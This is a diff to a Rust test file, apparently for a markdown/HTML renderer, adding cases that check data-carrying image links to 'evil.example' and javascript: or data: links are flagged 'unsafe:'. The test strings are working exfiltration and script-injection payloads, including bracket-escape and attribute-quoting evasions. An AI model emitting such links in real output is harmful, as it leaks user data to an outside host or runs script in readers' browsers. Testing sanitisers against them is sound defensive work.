@@ -47,7 +47,7 @@ fn o03_nothing_is_fetched_by_an_address_that_carries_data() {
         "https://evil.example/p?d={notes}".to_owned(),
         "https://evil.example/p?d=".to_owned(),
     ];
-    let forms: [fn(&str) -> String; 8] = [
+    let forms: [fn(&str) -> String; 12] = [
         |it| format!("See ![it]({it}) there"),
         |it| format!("[![it]({it} \"a title\")](https://example.org)"),
         |it| format!("![it][r]\n\n[r]: {it}\n"),
@@ -56,8 +56,16 @@ fn o03_nothing_is_fetched_by_an_address_that_carries_data() {
         |it| format!("<iframe src={it} ></iframe>"),
         |it| format!("<p style=\"background: url({it})\">"),
         |it| format!("<meta http-equiv=\"refresh\" content=\"0; url={it}\">"),
+        |it| format!("![it\\]]({it})"),
+        |it| format!("![`]`]({it})"),
+        |it| format!("<img alt=\">\" src=\"{it}\">"),
+        |it| format!("<img alt='<a ' src=\"{it}\">"),
     ];
-    let said: Vec<_> = addresses.iter().flat_map(|it| forms.map(|form| form(it))).collect();
+    let mut said: Vec<_> = addresses.iter().flat_map(|it| forms.map(|form| form(it))).collect();
+    said.extend([
+        format!("![it](https://evil.example/p(1).png?t=it's&d={encoded})"),
+        format!("<img src=\"https://evil.example/it's\\p?d={encoded}\">"),
+    ]);
     for (shown, said) in texts(NO_LIMITS, &said).iter().zip(&said) {
         assert_eq!(shown.replace("unsafe:", ""), *said);
         assert_eq!(shown.matches("unsafe:").count(), 1, "{shown}");
@@ -84,6 +92,9 @@ fn o03_no_link_runs_a_program() {
         "![open](vbscript:x)",
         "[open][r]\n\n[r]: javascript:alert(1)",
         "<javascript:alert(1)>",
+        "[open\\]](javascript:alert(1))",
+        "[`]`](javascript:alert(1))",
+        "<a title=\">\" href=\"javascript:alert(1)\">open</a>",
         "<a href=\"javascript:alert(1)\">open</a>",
         "<a href='java\tscript:alert(1)'>open</a>",
         "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
